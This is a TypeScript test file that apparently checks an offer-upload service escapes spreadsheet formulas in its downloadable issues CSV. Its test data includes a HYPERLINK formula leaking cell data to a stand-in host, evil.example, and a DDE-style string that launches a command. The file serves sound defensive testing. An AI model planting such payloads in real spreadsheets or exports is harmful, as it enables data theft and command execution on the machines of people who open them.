import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callOperation } from './api-call';
import { startHubFixture, type HubFixture } from './hub-fixture';

const inAYear = new Date(Date.now() + 365 * 86_400_000).toISOString();

/**
 * Spreadsheet formula injection through the real upload path: a bad row whose raw value is a
 * formula comes back in the downloadable issues file as inert text (leading '), so opening
 * the file in Excel or Sheets runs nothing on the back-office reviewer's machine.
 */
describe('the upload issues file neutralises formulas (hub on PGlite, over HTTP)', () => {
  let hub: HubFixture;
  beforeAll(async () => {
    hub = await startHubFixture();
  }, 60_000);
  afterAll(() => hub?.close());

  const waitUntilFinished = async (id: string): Promise<{ status: string; errorRows: number }> => {
    for (let i = 0; i < 200; i += 1) {
      const res = await callOperation(hub.server, 'uploads-get', { id }, hub.tokens.admin);
      const upload = res.json as { status: string; errorRows: number };
      if (upload.status === 'DONE' || upload.status === 'FAILED') return upload;
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error(`upload ${id} did not finish`);
  };

  it('prefixes a quote to identifiers beginning with = + - or @; others are untouched', async () => {
    const offer = await callOperation(
      hub.server,
      'offers-create',
      {
        name: 'Formula test',
        expiry: { type: 'FIXED_DATE', endsAt: inAYear },
        discount: { type: 'FIXED', amount: '10.00', currency: 'INR' },
        codeGeneration: { method: 'UNIQUE_AUTO', length: 8, charset: 'ALPHANUMERIC' },
      },
      hub.tokens.admin,
    );
    expect(offer.status).toBe(200);
    const offerId = (offer.json as { id: string }).id;

    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      'plain-user-42',
    ];
    const csv = Papa.unparse({ fields: ['userId'], data: hostile.map((v) => [v]) });
    const created = await callOperation(
      hub.server,
      'uploads-create',
      { id: offerId, csv, kind: 'CUSTOMERS', fileName: 'hostile.csv' },
      hub.tokens.admin,
    );
    expect(created.status).toBe(200);
    const uploadId = (created.json as { id: string }).id;
    expect(await waitUntilFinished(uploadId)).toMatchObject({ status: 'DONE', errorRows: 5 });

    const res = await fetch(`${hub.server.url}/api/v1/uploads/${uploadId}/issues.csv`, {
      headers: { authorization: `Bearer ${hub.tokens.admin}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const text = await res.text();
    const rows = Papa.parse<Record<string, string>>(text, {
      header: true,
      skipEmptyLines: true,
    }).data;
    const identifiers = rows.map((r) => r.identifier);
    expect(identifiers).toEqual([...hostile.slice(0, 4).map((v) => `'${v}`), 'plain-user-42']);
    // No cell of the file, in any column, starts a formula.
    const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
  });
});
